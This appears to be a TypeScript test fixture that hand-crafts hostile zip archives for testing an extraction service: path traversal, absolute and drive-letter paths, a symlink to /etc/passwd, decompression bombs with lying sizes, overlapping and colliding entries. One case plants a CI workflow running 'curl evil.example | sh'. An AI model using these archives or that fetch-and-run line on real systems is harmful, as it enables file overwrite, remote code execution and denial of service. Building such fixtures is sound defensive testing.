import { crc32, deflateRawSync } from 'node:zlib';

export type HostileArchiveKind =
  | 'truncated'
  | 'html'
  | 'json'
  | 'lying-size'
  | 'high-ratio'
  | 'too-many-entries'
  | 'overlapping'
  | 'traversal-dotdot'
  | 'traversal-nested'
  | 'absolute'
  | 'drive-letter'
  | 'backslash'
  | 'nul-byte'
  | 'symlink'
  | 'duplicate'
  | 'case-collision'
  | 'nfd-collision'
  | 'outside-targets'
  | 'empty'
  | 'cp437-name'
  | 'unicode-path-extra'
  /** A well-formed archive whose target entry is an HTML error page. */
  | 'html-entry';

/**
 * One entry as the hand-writer lays it out. The hand-writer exists only to produce hostile input:
 * yazl (rightly) refuses `..`, absolute names, lying sizes and shared data, and it writes
 * asynchronously, while the emulator wants a Buffer at once. Never use it to write real archives.
 */
interface CraftedEntry {
  /** A string is written as UTF-8 with general purpose bit 11 set; a Buffer is written raw, bit 11 off. */
  name: string | Buffer;
  data?: Buffer | string;
  compress?: boolean;
  /** Claimed uncompressed size, when it should lie. */
  declaredSize?: number;
  /** A Unix mode (with file type bits), stored as made on Unix. */
  unixMode?: number;
  extra?: Buffer;
  /** Write no local header: point the central record at this earlier entry's header and data. */
  sharesDataOf?: number;
}

const UTF8_FLAG = 0x800;
// 2024-01-01 00:00 in MS-DOS format, fixed so that every build gives the same bytes.
const DOS_DATE = ((2024 - 1980) << 9) | (1 << 5) | 1;
const DOS_TIME = 0;

function writeZip(entries: readonly CraftedEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  const offsets: number[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = typeof entry.name === 'string' ? Buffer.from(entry.name, 'utf8') : entry.name;
    const flags = typeof entry.name === 'string' ? UTF8_FLAG : 0;
    const raw = Buffer.isBuffer(entry.data) ? entry.data : Buffer.from(entry.data ?? '', 'utf8');
    const body = entry.compress === true ? deflateRawSync(raw) : raw;
    const method = entry.compress === true ? 8 : 0;
    const crc = crc32(raw);
    const size = entry.declaredSize ?? raw.length;
    const extra = entry.extra ?? Buffer.alloc(0);
    let localOffset = offset;
    if (entry.sharesDataOf === undefined) {
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt16LE(flags, 6);
      local.writeUInt16LE(method, 8);
      local.writeUInt16LE(DOS_TIME, 10);
      local.writeUInt16LE(DOS_DATE, 12);
      local.writeUInt32LE(crc, 14);
      local.writeUInt32LE(body.length, 18);
      local.writeUInt32LE(size, 22);
      local.writeUInt16LE(name.length, 26);
      local.writeUInt16LE(extra.length, 28);
      locals.push(local, name, extra, body);
      offset += local.length + name.length + extra.length + body.length;
    } else {
      localOffset = offsets[entry.sharesDataOf] ?? 0;
    }
    offsets.push(localOffset);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(entry.unixMode === undefined ? 20 : (3 << 8) | 20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(DOS_TIME, 12);
    central.writeUInt16LE(DOS_DATE, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt16LE(extra.length, 30);
    central.writeUInt32LE(entry.unixMode === undefined ? 0 : (entry.unixMode << 16) >>> 0, 38);
    central.writeUInt32LE(localOffset, 42);
    centrals.push(central, name, extra);
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** The Info-ZIP Unicode Path extra field (0x7075): version 1, CRC-32 of the header name, UTF-8 name. */
function unicodePathField(headerName: Buffer, unicodeName: string, nameCrc = crc32(headerName)): Buffer {
  const utf8 = Buffer.from(unicodeName, 'utf8');
  const field = Buffer.alloc(4 + 5 + utf8.length);
  field.writeUInt16LE(0x7075, 0);
  field.writeUInt16LE(5 + utf8.length, 2);
  field.writeUInt8(1, 4);
  field.writeUInt32LE(nameCrc >>> 0, 5);
  utf8.copy(field, 9);
  return field;
}

// The code page 437 characters above 0x7f, in byte order (0x80..0xff).
const CP437_HIGH =
  'ÇüéâäàåçêëèïîìÄÅÉæÆôöòûùÿÖÜ¢£¥₧ƒáíóúñÑªº¿⌐¬½¼¡«»░▒▓│┤╡╢╖╕╣║╗╝╜╛┐└┴┬├─┼╞╟╚╔╩╦╠═╬╧╨╤╥╙╘╒╓╫╪┘┌█▄▌▐▀αßΓπΣσµτΦΘΩδ∞φε∩≡±≥≤⌠⌡÷≈°∙·√ⁿ²■\u00a0';

/** Encodes a name in code page 437, the zip spec's default when bit 11 is off. */
function encodeCp437(name: string): Buffer {
  // Code points, not UTF-16 units: every code page 437 character is one code point and one byte.
  return Buffer.from(
    Array.from(name.normalize('NFC'), (character) => {
      const code = character.codePointAt(0) ?? 0;
      if (code < 0x80) return code;
      const index = CP437_HIGH.indexOf(character);
      if (index < 0) throw new Error(`"${character}" in ${JSON.stringify(name)} has no code page 437 form`);
      return 0x80 + index;
    }),
  );
}

function splitName(targetName: string): { folder: string; stem: string; extension: string } {
  const slash = targetName.lastIndexOf('/');
  const folder = slash < 0 ? '' : targetName.slice(0, slash + 1);
  const file = targetName.slice(slash + 1);
  const dot = file.lastIndexOf('.');
  return dot <= 0
    ? { folder, stem: file, extension: '' }
    : { folder, stem: file.slice(0, dot), extension: file.slice(dot) };
}

const LEGIT_CONTENT = 'fr:\n  greeting: "Bonjour"\n';
const MiB = 1024 * 1024;

/**
 * Builds a hostile (or awkward) archive of the given kind as the service's Zip File might send it.
 * Most kinds also hold a legitimate entry at `targetName`, so a test can show that the whole
 * archive is refused, not just the bad entry. The expected outcome of each kind is listed in
 * docs/decisions.md under Extraction.
 */
export function buildHostileArchive(kind: HostileArchiveKind, options: { targetName?: string } = {}): Buffer {
  const target = options.targetName ?? 'config/locales/fr.yml';
  const { folder, stem, extension } = splitName(target);
  const legit: CraftedEntry = { name: target, data: LEGIT_CONTENT, compress: true };
  switch (kind) {
    case 'truncated': {
      const whole = writeZip([
        legit,
        { name: `${folder}${stem}-2${extension}`, data: LEGIT_CONTENT.repeat(20), compress: true },
      ]);
      // Cut inside the central directory: the end record, which readers start from, is gone.
      return whole.subarray(0, whole.length - 30);
    }
    case 'html':
      return Buffer.from(
        '<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head><body><h1>Bad Gateway</h1></body></html>\n',
      );
    case 'json':
      return Buffer.from('{"errors":[{"message":"Project not found","code":"not_found"}]}');
    case 'lying-size':
      // Declares 64 bytes; inflates to 4 MiB.
      return writeZip([
        { name: target, data: Buffer.alloc(4 * MiB, 0x20), compress: true, declaredSize: 64 },
      ]);
    case 'high-ratio':
      // Honest sizes, but 8 MiB from about 8 KiB: a ratio near 1000.
      return writeZip([{ name: target, data: Buffer.alloc(8 * MiB, 0x20), compress: true }]);
    case 'too-many-entries':
      return writeZip(
        Array.from({ length: 10_001 }, (_, index): CraftedEntry => ({
          name: `${folder}${stem}-${index}${extension}`,
        })),
      );
    case 'overlapping':
      // Two central records, one local header: inflating both reads the same bytes twice.
      return writeZip([
        legit,
        { name: `${folder}${stem}-copy${extension}`, data: LEGIT_CONTENT, compress: true, sharesDataOf: 0 },
      ]);
    case 'traversal-dotdot':
      return writeZip([legit, { name: `../${stem}${extension}`, data: LEGIT_CONTENT }]);
    case 'traversal-nested':
      return writeZip([legit, { name: `${folder}../../../${stem}${extension}`, data: LEGIT_CONTENT }]);
    case 'absolute':
      return writeZip([legit, { name: `/tmp/${stem}${extension}`, data: LEGIT_CONTENT }]);
    case 'drive-letter':
      return writeZip([legit, { name: `C:\\${stem}${extension}`, data: LEGIT_CONTENT }]);
    case 'backslash':
      return writeZip([legit, { name: `..\\..\\${stem}${extension}`, data: LEGIT_CONTENT }]);
    case 'nul-byte':
      return writeZip([legit, { name: `${target}\u0000.sh`, data: '#!/bin/sh\n' }]);
    case 'symlink':
      return writeZip([{ name: target, data: '../../../../../etc/passwd', unixMode: 0o120777 }]);
    case 'duplicate':
      return writeZip([legit, { name: target, data: 'fr:\n  greeting: "Salut"\n', compress: true }]);
    case 'case-collision':
      return writeZip([
        legit,
        { name: `${folder}${stem.toUpperCase()}${extension.toUpperCase()}`, data: LEGIT_CONTENT },
      ]);
    case 'nfd-collision': {
      const composed = `${folder}${stem}-caf\u00e9${extension}`;
      return writeZip([
        legit,
        { name: composed, data: LEGIT_CONTENT },
        { name: composed.normalize('NFD'), data: LEGIT_CONTENT },
      ]);
    }
    case 'outside-targets':
      return writeZip([
        legit,
        {
          name: '.github/workflows/x.yml',
          data: 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl evil.example | sh\n',
        },
        { name: 'README.md', data: '# replaced\n' },
      ]);
    case 'empty':
      return writeZip([]);
    case 'html-entry':
      return writeZip([
        {
          name: target,
          data: '<!DOCTYPE html>\n<html><body><h1>500 Internal Server Error</h1></body></html>\n',
          compress: true,
        },
      ]);
    case 'cp437-name':
      // Bit 11 off: a reader must decode the name as code page 437. Give a target with "é" to see it.
      return writeZip([{ name: encodeCp437(target), data: LEGIT_CONTENT, compress: true }]);
    case 'unicode-path-extra': {
      // The header names are fallbacks; a spec reader takes the UTF-8 name from 0x7075 when its
      // CRC-32 matches the header name, and ignores the field (a traversal here) when it does not.
      const fallback = Buffer.from(`unicode-path-fallback/${target.replace(/[^\x20-\x7e]/g, '_')}`, 'latin1');
      const stale = Buffer.from('unicode-path-fallback/stale.yml', 'latin1');
      return writeZip([
        { name: fallback, data: LEGIT_CONTENT, extra: unicodePathField(fallback, target) },
        {
          name: stale,
          data: LEGIT_CONTENT,
          extra: unicodePathField(stale, `../${stem}${extension}`, crc32(stale) ^ 1),
        },
      ]);
    }
  }
}

/**
 * Changes, in place, one byte in the middle of the compressed data of the last entry of a
 * well-formed archive (no comment, no Zip64) whose name `wanted` accepts; throws when none does.
 * The headers and the central directory stay as they were, so only inflating that entry, or its
 * CRC-32, can tell.
 */
export function damageLastEntry(archive: Buffer, wanted: (name: string) => boolean): void {
  const end = archive.length - 22;
  if (archive.readUInt32LE(end) !== 0x06054b50) throw new Error('Not an archive without a comment');
  const count = archive.readUInt16LE(end + 10);
  let record = archive.readUInt32LE(end + 16);
  let damaged: { start: number; size: number } | undefined;
  for (let index = 0; index < count; index++) {
    const size = archive.readUInt32LE(record + 20);
    const nameLength = archive.readUInt16LE(record + 28);
    const extraLength = archive.readUInt16LE(record + 30);
    const commentLength = archive.readUInt16LE(record + 32);
    const header = archive.readUInt32LE(record + 42);
    const name = archive.toString('utf8', record + 46, record + 46 + nameLength);
    if (wanted(name) && size > 0) {
      const start = header + 30 + archive.readUInt16LE(header + 26) + archive.readUInt16LE(header + 28);
      damaged = { start, size };
    }
    record += 46 + nameLength + extraLength + commentLength;
  }
  if (damaged === undefined) throw new Error('No entry to damage');
  const at = damaged.start + Math.floor(damaged.size / 2);
  archive[at] = (archive[at] ?? 0) ^ 0xff;
}
